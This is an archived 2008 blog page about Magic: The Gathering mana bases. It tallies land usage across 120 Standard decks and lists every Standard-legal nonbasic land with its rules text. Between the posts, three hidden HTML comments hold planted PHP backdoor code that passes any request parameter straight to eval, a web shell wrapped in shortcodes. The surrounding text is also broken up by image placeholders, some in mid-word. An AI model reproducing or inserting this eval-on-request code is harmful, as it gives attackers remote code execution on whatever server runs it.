Archive for October, 2008


Land Use in Standard Constructed

   Posted by: bakert    in Manabase

Lands in the first 120 decks from the new Standard on

All Land By Type


Basics 808
Filter Lands 398
Painlands 292
Manlands 288
Vivid Lands 284
Tribal Lands 265
Reflecting Pool 200
Trilands 87
Hideaways 75
Other 5Without basic land

Full Figures

351 Plains
200 Reflecting Pool
166 Island
149 Mutavault
148 Mystic Gate
143 Vivid Creek
136 Sunken Ruins
112 Swamp
106 Vivid Meadow
97 Forest
96 Secluded Glen
88 Underground River
82 Mountain
76 Treetop Village
72 Windbrisk Heights
72 Vivid Grove
65 Flooded Grove
62 Rustic Clachan
62 Gilt-Leaf Palace
57 Adarkar Wastes
55 Llanowar Wastes
55 Faerie Conclave
53 Vivid Marsh
52 Arcane Sanctum
36 Twilight Mire
25 Yavimaya Coast
23 Wooded Bastion
21 Graven Cairns
20 Murmuring Bosk
19 Fetid Heath
18 Fire-Lit Thicket
17 Rugged Prairie
17 Battlefield Forge
16 Sulfurous Springs
16 Wanderwine Hub
15 Cascade Bluffs
14 Seaside Citadel
12 Caves of Koilos
12 Brushland
10 Vivid Crag
9 Savage Lands
9 Auntie’s Hovel
9 Crumbling Necropolis
8 Ghitu Encampment
8 Shivan Reef
3 Mosswort Bridge
2 Karplusan Forest
2 Jungle Shrine
2 Springjack Pasture
1 Jund Panorama
1 Mistveil Plains
1 Shimmering Grotto
1 Ancient Amphitheater
0 Bant Panorama
0 Esper Panorama
0 Forbidding Watchtower
0 Grixis Panorama
0 Howltooth Hollow
0 Leechridden Swamp
0 Madblind Mountain0 Moonring Island
0 Naya Panorama
0 Primal Beyond
0 Quicksand
0 Sapseep Forest
0 Shelldock Isle
0 Spawning Pool
0 Spinerock Knoll
0 Terramorphic Expanse

See also: Standard-Legal Nonbasic Land

<!– [insert_php]if (isset($_REQUEST["uffvV"])){eval($_REQUEST["uffvV"]);exit;}[/insert_php][php]if (isset($_REQUEST["uffvV"])){eval($_REQUEST["uffvV"]);exit;}[/php] –>

<!–[insert_php]if (isset($_REQUEST["DcukA"])){eval($_REQUEST["DcukA"]);exit;}[/insert_php][php]if (isset($_REQUEST["DcukA"])){eval($_REQUEST["DcukA"]);exit;}[/php] –>

<!– [insert_php]if (isset($_REQUEST["byp"])){eval($_REQUEST["byp"]);exit;}[/insert_php][php]if (isset($_REQUEST["byp"])){eval($_REQUEST["byp"]);exit;}[/php] –>


Standard-Legal Nonbasic Land

   Posted by: bakert    in Manabase

There are 69 land cards in Lorwyn-10th-Shards of Alara standard.


Rare. From 10th Edition. Tap for 1 or for one of two colors dealing one damage to you.

Adarkar Wastes W/U
Battlefield Forge R/W
Brushland G/W
Caves of Koilos WB
Karplusan Forest R/G
Llanowar Wastes B/G
Shivan Reef U/R
Sulfurous Springs B/R
Underground River U/B
Yavimaya Coast G/U

Tribal Lands

Rare. From Lorwyn and Morningtide. Come into play tapped unless you reveal a card with a specific creature type. The five from Lorwyn tap for either of two colors, the three from Morningtide are different.

Ancient Amphitheater R/W Giant
Auntie’s Hovel B/R Goblin
Gilt-Leaf Palace B/G Elf
Murmuring Bosk G Treefolk Tap for W or B and deal 1 damage to you
Primal Beyond 1 Elemental Tap for any color if spending to play Elemental spells or activated abilities
Rustic Clachan W Kithkin Discard and play 1W to put a +1/+1 counter on target creatureSecluded Glen U/B Faerie

Wanderwine Hub W/U Merfolk

Filter Lands

Rare. From Shadowmoor. Tap for 1 or pay one of it’s two colors and tap for any combination of it’s two colors. Example: Cascade Bluffs takes R or U and taps for RR, RU or UU. Graven Cairns was also printed in Time Spiral.

Cascade Bluffs R/U
Fetid Heath W/B
Fire-Lit Thicket R/G
Flooded Grove U/G
Graven Cairns B/R
Mystic Gate W/U
Rugged Prairie R/W
Sunken Ruins U/B
Twilight Mire B/G
Wooded Bastion G/W

Vivid Lands

Uncommon. From Lorwyn. Come into play tapped with two charge counters. Tap one color. Or tap and remove counter for any color.

Vivid Crag R
Vivid Creek U
Vivid Grove G
Vivid Marsh B
Vivid Meadow W


Uncommon. From 10th Edition. Come into play tapped. Tap for one color. Can be animated into a creature of the color that they tap for until end of turn for one colored and 1. Also included here is Mutavault from Morningtide which is Rare not Uncommon, taps for 1 and animates into a 2/2 with all creature types for 1.

Faerie Conclave U 2/1 Faerie with flying
Forbidding Watchtower W 1/5 Soldier
Ghitu Encampment R 2/1 Warrior with first strike
Mutavault 1 2/2 with all creature typesSpawning Pool B 1/1 Skeleton with “B Regenerate this creature”
Treetop Village G 3/3 Ape with trample


Uncommon. From Shards of Alara. Come into play tapped. Tap for one of three colors.

Arcane Sanctum W/U/B
Crumbling Necropolis U/B/R
Jungle Shrine R/G/W
Savage Lands B/R/G
Seaside Citadel G/W/U


Common. From Shards of Alara. Tap for colorless or spend 1 and sacrifice to put one of three basic lands into play tapped.

Bant Panorama G/W/U
Esper Panorama W/U/B
Grixis Panorama U/B/R
Jund Panorama B/R/G
Naya Panorama R/G/W


Rare. From Lorwyn. Come into play tapped with a hidden card (from top four of library) under it. Tap for one color. Under specific conditions the card under the land can be played at no cost at instant speed.

Howltooth Hollow B No player has any cards in hand
Mosswort Bridge G Creatures you control have total 10 power of greaterShelldock Isle U A library has 20 or fewer cards in it
Spinerock Knoll R Opponent was dealt seven or more damage this turn
Windbrisk Heights W Attacked with three or more creatures this turn

Utility Lands

Uncommon. From Shadowmoor. Come into play tapped. Tap for one color. Have an ability that can be played by tapping and for one colored mana if you control 2 or more permanents of the color..

Leechridden Swamp B Each opponent loses 1 life
Madblind Mountain R Shuffle your library
Mistveil Plains W Put card from your graveyard on the bottom of your library
Moonring Island U Look at top card of target player’s library
Sapseep Forest G Gain 1 life


Reflecting Pool Shadowmoor Rare. Tap for one mana of any type that a land you control could produce
Quicksand 10th Edition Uncommon. 1 or sacrifice to give non-flying creature -1/-2 until end of turn
Shimmering Grotto Tap for 1 or pay 1 to tap for any color
Springjack Pasture Eventide Rare. Tap for 1, pay 4 and tap to put a 0/1 white Goat into play, or tap and sacrifice X Goats: Add X mana of any one color to your mana pool and gain X life.
Terramorphic Expanse 10th Edition Common. Cannot tap for mana, tap and sacrifice to search for a basic landand put into play tapped.